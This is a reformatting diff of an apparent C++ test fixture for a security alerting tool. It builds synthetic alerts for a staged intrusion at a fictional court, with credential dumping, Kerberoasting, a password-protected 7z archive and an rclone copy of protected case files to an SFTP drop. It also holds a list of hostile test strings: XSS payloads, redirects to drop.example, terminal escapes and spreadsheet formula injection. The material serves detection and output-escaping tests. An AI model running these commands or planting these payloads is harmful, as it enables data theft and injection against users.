@@ -25,8 +25,8 @@ Alert started(Rule rule, std::string_view time, std::string_view host, std::stri
               std::string parent, std::string command, std::string predicate) {
   Alert alert = an_alert(std::move(rule), time, std::string(host),
                          {"CommandLine", std::move(predicate), command});
-  alert.why.insert(alert.why.begin(), {"ParentImage", "endswith '" +
-                   parent.substr(parent.rfind('\\')) + "'", parent});
+  alert.why.insert(alert.why.begin(),
+                   {"ParentImage", "endswith '" + parent.substr(parent.rfind('\\')) + "'", parent});
   alert.place.channel = "Microsoft-Windows-Sysmon/Operational";
   alert.place.event_id = 1;
   alert.event = {{"EventID", "1", model::FieldForm::kNumber},
@@ -42,8 +42,8 @@ Alert started(Rule rule, std::string_view time, std::string_view host, std::stri
 
 void add_remote_help(std::vector<Alert>& alerts) {
   const auto chat = a_rule("a1d1", "Remote help tool started by chat or browser", Level::kHigh,
-                           {"attack.initial-access", "attack.t1566.003", "attack.command-and-control",
-                            "attack.t1219.002"});
+                           {"attack.initial-access", "attack.t1566.003",
+                            "attack.command-and-control", "attack.t1219.002"});
   const auto script = a_rule("a1d2", "AutoIt script run outside its folder", Level::kCritical,
                              {"attack.execution", "attack.t1059.010", "attack.stealth"});
   alerts.push_back(started(chat, "2026-03-03T16:41:09.221000Z", kWorkstation,
@@ -68,8 +68,9 @@ void add_credentials(std::vector<Alert>& alerts) {
                                user_folder() + R"(\AppData\Local\Temp\s.bin full)",
                            R"(contains 'MiniDump')"));
   for (int i = 0; i < 23; ++i) {
-    Alert alert = an_alert(ticket, fmt::format("2026-03-03T18:{:02}:{:02}.100000Z", 2 + i / 9, i * 2),
-                           std::string(kController), {"TicketEncryptionType", "equals '0x17'", "0x17"});
+    Alert alert =
+        an_alert(ticket, fmt::format("2026-03-03T18:{:02}:{:02}.100000Z", 2 + i / 9, i * 2),
+                 std::string(kController), {"TicketEncryptionType", "equals '0x17'", "0x17"});
     alert.place.channel = "Security";
     alert.place.event_id = 4769;
     alert.place.path = "dc-01/Security.evtx";
@@ -90,23 +91,29 @@ void add_case_files(std::vector<Alert>& alerts) {
   const auto leave = a_rule("c3d3", "rclone moves files", Level::kHigh,
                             {"attack.exfiltration", "attack.t1567.002"});
   for (int i = 0; i < 9; ++i) {
-    const std::string file = fmt::format(R"(E:\Cases\2026\Chamber III\Protected\W-{:03}\statement.docx)", 17 + i);
-    Alert alert = an_alert(read, fmt::format("2026-03-04T01:1{}:07.000000Z", i),
-                           std::string(kFileServer), {"ObjectName", R"(contains '\Protected\')", file});
+    const std::string file =
+        fmt::format(R"(E:\Cases\2026\Chamber III\Protected\W-{:03}\statement.docx)", 17 + i);
+    Alert alert =
+        an_alert(read, fmt::format("2026-03-04T01:1{}:07.000000Z", i), std::string(kFileServer),
+                 {"ObjectName", R"(contains '\Protected\')", file});
     alert.place.channel = "Security";
     alert.place.event_id = 4663;
-    alert.event = {{"ObjectName", file}, {"ProcessName", R"(C:\Windows\System32\robocopy.exe)"},
-                   {"SubjectUserName", "svc-case02"}, {"AccessMask", "0x1"}};
+    alert.event = {{"ObjectName", file},
+                   {"ProcessName", R"(C:\Windows\System32\robocopy.exe)"},
+                   {"SubjectUserName", "svc-case02"},
+                   {"AccessMask", "0x1"}};
     alerts.push_back(std::move(alert));
   }
-  alerts.push_back(started(archive, "2026-03-04T02:04:51.000000Z", kFileServer,
-                           R"(C:\ProgramData\x\7z.exe)", R"(C:\Windows\System32\cmd.exe)",
-                           R"(7z.exe a -v500m -pGr4nite C:\ProgramData\x\w.7z "E:\Cases\2026\Chamber III\Protected")",
-                           R"(contains ' -p')"));
-  alerts.push_back(started(leave, "2026-03-04T02:31:12.000000Z", kFileServer,
-                           R"(C:\ProgramData\x\rclone.exe)", R"(C:\Windows\System32\cmd.exe)",
-                           R"(rclone.exe copy C:\ProgramData\x sftp-drop:weidenau --transfers 8 --no-check-certificate)",
-                           R"(contains ' copy ')"));
+  alerts.push_back(started(
+      archive, "2026-03-04T02:04:51.000000Z", kFileServer, R"(C:\ProgramData\x\7z.exe)",
+      R"(C:\Windows\System32\cmd.exe)",
+      R"(7z.exe a -v500m -pGr4nite C:\ProgramData\x\w.7z "E:\Cases\2026\Chamber III\Protected")",
+      R"(contains ' -p')"));
+  alerts.push_back(started(
+      leave, "2026-03-04T02:31:12.000000Z", kFileServer, R"(C:\ProgramData\x\rclone.exe)",
+      R"(C:\Windows\System32\cmd.exe)",
+      R"(rclone.exe copy C:\ProgramData\x sftp-drop:weidenau --transfers 8 --no-check-certificate)",
+      R"(contains ' copy ')"));
 }
 
 void add_traces(std::vector<Alert>& alerts) {
@@ -114,8 +121,8 @@ void add_traces(std::vector<Alert>& alerts) {
                               {"attack.defense-impairment", "attack.t1070.001"});
   const auto found = a_rule("d4d2", "Accounts and groups listed", Level::kLow,
                             {"attack.discovery", "attack.t1087.002"});
-  const auto quick = a_rule("d4d3", "Quick Assist opened", Level::kInformational,
-                            {"attack.command-and-control"});
+  const auto quick =
+      a_rule("d4d3", "Quick Assist opened", Level::kInformational, {"attack.command-and-control"});
   Alert clear = an_alert(cleared, "2026-03-04T02:58:03.000000Z", std::string(kFileServer),
                          {"EventID", "equals '1102'", "1102"});
   clear.place.channel = "Security";
@@ -136,9 +143,9 @@ void add_correlation(std::vector<Alert>& alerts) {
   AlertRule rule = *a_rule("e5d1", "Many service tickets with a weak cipher for one account",
                            Level::kHigh, {"attack.credential-access", "attack.t1558.003"});
   rule.correlation = true;
-  Alert alert = an_alert(std::make_shared<const AlertRule>(std::move(rule)),
-                         "2026-03-03T18:04:44.100000Z", std::string(kController),
-                         {"ServiceName", "distinct values >= 20 within 10m", "23"});
+  Alert alert =
+      an_alert(std::make_shared<const AlertRule>(std::move(rule)), "2026-03-03T18:04:44.100000Z",
+               std::string(kController), {"ServiceName", "distinct values >= 20 within 10m", "23"});
   alert.why.push_back({"TargetUserName", "same for all", "m.ortega@WEIDENAU.EXAMPLE"});
   alert.event = {{"TargetUserName", "m.ortega@WEIDENAU.EXAMPLE"}};
   for (const Alert& other : alerts) {
@@ -217,12 +224,16 @@ RunSummary court_summary() {
   run.bytes = 18'350'080;
   run.first_event = at_time("2026-03-02T06:00:00Z");
   run.last_event = at_time("2026-03-04T07:59:58Z");
-  run.evidence = {
-      {"dc-01/Security.evtx", "read", "evtx", "", 6'295'552, 9'120, {}},
-      {"srv-file-01/Security.evtx", "partly read", "evtx", "a chunk is damaged", 5'246'976, 5'911,
-       {{"evtx-chunk-damaged", 2}, {"evtx-chunk-checksum", 1}}},
-      {"srv-file-01/notes.docx", "refused", "", "no known format", 48'211, 0, {}},
-      {"ws-registry-07/Sysmon.evtx", "read", "evtx", "", 6'807'552, 6'406, {}}};
+  run.evidence = {{"dc-01/Security.evtx", "read", "evtx", "", 6'295'552, 9'120, {}},
+                  {"srv-file-01/Security.evtx",
+                   "partly read",
+                   "evtx",
+                   "a chunk is damaged",
+                   5'246'976,
+                   5'911,
+                   {{"evtx-chunk-damaged", 2}, {"evtx-chunk-checksum", 1}}},
+                  {"srv-file-01/notes.docx", "refused", "", "no known format", 48'211, 0, {}},
+                  {"ws-registry-07/Sysmon.evtx", "read", "evtx", "", 6'807'552, 6'406, {}}};
   run.losses = {{"evtx-chunk-damaged", 2}, {"evtx-chunk-checksum", 1}};
   return run;
 }
@@ -241,18 +252,38 @@ std::vector<std::string> hostile_texts() {
       "' onmouseover='alert(1)' x='",
       "</style><svg onload=alert(1)>",
       "</details></section><h1>All clear</h1>",
-      "<!--", "-->", "<![CDATA[", "]]>", "&lt;b&gt; &#x3c;script&#x3e;",
+      "<!--",
+      "-->",
+      "<![CDATA[",
+      "]]>",
+      "&lt;b&gt; &#x3c;script&#x3e;",
       "javascript:alert(document.domain)",
       "</title><meta http-equiv=refresh content='0;url=https://drop.example/'>",
       "<a href=\"https://drop.example/\">evidence</a>",
       "<base href=https://drop.example/>",
-      "\x1b[2J\x1b[1;1H\x1b]0;owned\x07", "\x9b" "31m", "\xc2\x9b" "31m",
+      "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
+      "\x9b"
+      "31m",
+      "\xc2\x9b"
+      "31m",
       "line one\r\nline two\nINFO no alerts",
-      "invoice\xe2\x80\xae" "fdp.exe", "\xe2\x81\xa6isolate\xe2\x81\xa9",
-      "zero\xe2\x80\x8bwidth\xef\xbb\xbf", "tag\xf3\xa0\x81\x81\xf3\xa0\x81\x82",
-      "broken \xff\xfe\xc3 utf-8", "lone \xed\xa0\x80 surrogate", std::string("nul\0byte", 8),
-      "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "  =1+1",
-      "\xef\xbc\x9d" "1+1",
+      "invoice\xe2\x80\xae"
+      "fdp.exe",
+      "\xe2\x81\xa6isolate\xe2\x81\xa9",
+      "zero\xe2\x80\x8bwidth\xef\xbb\xbf",
+      "tag\xf3\xa0\x81\x81\xf3\xa0\x81\x82",
+      "broken \xff\xfe\xc3 utf-8",
+      "lone \xed\xa0\x80 surrogate",
+      std::string("nul\0byte", 8),
+      "=cmd|'/c calc'!A1",
+      "+1+1",
+      "-2+3",
+      "@SUM(1)",
+      "\t=1+1",
+      "\r=1+1",
+      "  =1+1",
+      "\xef\xbc\x9d"
+      "1+1",
       std::string(3000, 'A') + "<b>",
       "a\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81",
   };
